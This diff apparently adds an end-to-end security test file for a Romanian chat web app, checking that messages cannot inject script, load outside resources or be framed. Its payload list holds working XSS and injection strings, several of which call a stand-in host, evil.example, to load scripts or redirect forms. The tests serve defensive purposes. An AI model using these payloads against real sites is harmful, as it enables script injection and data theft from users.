@@ -1,0 +1,148 @@
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { apiAs } from "./api-as.ts";
+import { axeFindings } from "./axe-findings.ts";
+import { freshProfile, startBrowser } from "./browser.ts";
+import { bubbles, composer, messageList, openRoom, say, signedIn } from "./people.ts";
+import { type Product, startProduct } from "./start-product.ts";
+
+/** Texts that would run, load or draw something where a page takes them for more than words; each tells itself by `rupt`. */
+const payloads = [
+  `<script>alert("rupt")</script>`,
+  `<img src=x onerror=alert("rupt")>`,
+  `<svg/onload=alert("rupt")>`,
+  `<svg><script xlink:href="https://evil.example/rupt.js"></script></svg>`,
+  `<iframe srcdoc="<script>parent.alert('rupt')</script>"></iframe>`,
+  `<body onload=alert("rupt")>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=alert("rupt")>`,
+  `"><img src=https://evil.example/rupt.gif>`,
+  `' onmouseover='alert("rupt")' x='`,
+  `<a href="javascript:alert('rupt')">apasă rupt</a>`,
+  `javascript:alert("rupt")`,
+  `https://evil.example/"onmouseover="alert('rupt')`,
+  `<link rel=stylesheet href=https://evil.example/rupt.css>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/rupt">`,
+  `<form action=https://evil.example/rupt><button>rupt</button></form>`,
+  `<base href=https://evil.example/rupt/>`,
+  `<object data="data:text/html,<script>alert('rupt')</script>"></object>`,
+  `<details open ontoggle=alert("rupt")>rupt</details>`,
+  `\${alert("rupt")} {{constructor.constructor('alert("rupt")')()}}`,
+  `</textarea></p></article><script>alert("rupt")</script>`,
+  `{count, plural, =0 {<b>rupt</b>} other {#}}`,
+  `<style>*{background:url(https://evil.example/rupt.png)}</style>`,
+  `https://rupt.example\u202e/gro.elpmaxe.live`,
+];
+
+const foreign =
+  "script, img, iframe, object, embed, link, meta, form, base, style, svg image, details, math, video, audio";
+
+describe("texts that are meant to break out", () => {
+  let product: Product;
+  let browser: Browser;
+  let ana: Page;
+  let radu: Page;
+  const caught: string[] = [];
+
+  function watch(page: Page): void {
+    const own = new URL(product.address).host;
+    page.on("dialog", (dialog) => {
+      caught.push(`dialog: ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    page.on("request", (request) => {
+      const { host, protocol } = new URL(request.url());
+      if (host !== own && protocol !== "data:" && protocol !== "blob:") caught.push(`request: ${request.url()}`);
+    });
+    page.on("console", (line) => {
+      if (/content security policy/iu.test(line.text())) caught.push(line.text());
+    });
+    page.on("framenavigated", (frame) => {
+      if (new URL(frame.url()).host !== own) caught.push(`frame: ${frame.url()}`);
+    });
+  }
+
+  beforeAll(async () => {
+    [product, browser] = await Promise.all([startProduct({ LIMITS: "off" }), startBrowser()]);
+    ana = await signedIn(browser, product, "ana");
+    radu = await signedIn(browser, product, "radu");
+    for (const page of [ana, radu]) watch(page);
+    await openRoom(ana, 10_001);
+    await openRoom(radu, 10_001);
+  });
+  afterAll(async () => {
+    await browser.close();
+    await product.stop();
+  });
+
+  test("[SEC-13] [RUN-11] nothing of a message runs, loads or becomes an element, live, loaded again and in the list", async () => {
+    const elements = (): Promise<number> => messageList(ana).locator(foreign).count();
+    const before = await elements();
+    const api = await apiAs(product, "radu");
+    const { chats } = await api.get<{ chats: readonly { id: number }[] }>("chat/oferta.10001");
+    for (const message of payloads) await api.post(`publish/${chats[0]?.id}`, { message });
+    await bubbles(ana, "rupt")
+      .nth(payloads.length - 1)
+      .waitFor();
+    expect(await elements()).toBe(before);
+    await ana.reload();
+    await composer(ana).waitFor();
+    await bubbles(ana, "rupt")
+      .nth(payloads.length - 1)
+      .waitFor();
+    await bubbles(ana, "rupt").last().hover();
+    const links = await messageList(ana)
+      .getByRole("link")
+      .evaluateAll((all) => all.map((link) => ({ text: link.textContent, href: link.getAttribute("href") })));
+    for (const { text, href } of links) expect([text, `http://${text}`, `mailto:${text}`]).toContain(href);
+    expect(links.filter(({ href }) => /script|live/u.test(href ?? ""))).toEqual([]);
+    expect(caught).toEqual([]);
+  });
+
+  test("[SEC-13] a paste from a table loses what nobody sees, and is sent; what shows nothing cannot be", async () => {
+    await composer(radu).fill("Discuri\u000b1K0 615 301 AA\u0007\tpreț 120");
+    await composer(radu).press("Enter");
+    await bubbles(ana, "Discuri").getByText("Discuri\n1K0 615 301 AA\tpreț 120").waitFor();
+    await composer(radu).fill("\u200b\u3164");
+    await composer(radu).press("Enter");
+    expect(await composer(radu).inputValue()).toBe("\u200b\u3164");
+    await composer(radu).fill("");
+  });
+
+  test("[SEC-13] marks that are piled up stay inside their own bubble", async () => {
+    await say(radu, `Turn ${"e" + "\u0301\u0300\u0302".repeat(1300)}`);
+    const bubble = bubbles(ana, "Turn").locator("div").first();
+    await bubble.waitFor();
+    expect(await bubble.evaluate((element) => getComputedStyle(element).overflow)).toBe("clip");
+  });
+
+  test("[SEC-11] a link to /logout deletes nothing before the answer, and no leads home", async () => {
+    await composer(ana).fill("ciorna mea");
+    await ana.goto(`${product.address}/logout`);
+    await ana.getByRole("heading", { name: "Ieși din cont?" }).waitFor();
+    expect(await axeFindings(ana)).toEqual([]);
+    await ana.getByRole("button", { name: "Rămân" }).press("Enter");
+    await expect.poll(() => new URL(ana.url()).pathname).toBe("/");
+    await openRoom(ana, 10_001);
+    await expect.poll(() => composer(ana).inputValue()).toBe("ciorna mea");
+    await composer(ana).fill("");
+  });
+
+  test("[WEB-1] the browser keeps what is listed and nothing else", async () => {
+    const keys = await ana.evaluate(() => ({
+      local: Object.keys(localStorage).map((key) => key.replaceAll(/\d+/gu, "N")),
+      session: Object.keys(sessionStorage),
+      cookies: document.cookie,
+    }));
+    expect(keys.local.filter((key) => !/^(?:token|language|notifications|cuplaj\.[a-z.N-]+)$/u.test(key))).toEqual([]);
+    expect(keys).toMatchObject({ session: [], cookies: "" });
+  });
+
+  test("[RUN-11] another page cannot show ours in a frame", async () => {
+    const page = await (await freshProfile(browser)).newPage();
+    await page.route("https://host.example/", (route) =>
+      route.fulfill({ contentType: "text/html", body: `<iframe src="${product.address}/login"></iframe>` }),
+    );
+    await page.goto("https://host.example/");
+    await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
+  });
+});
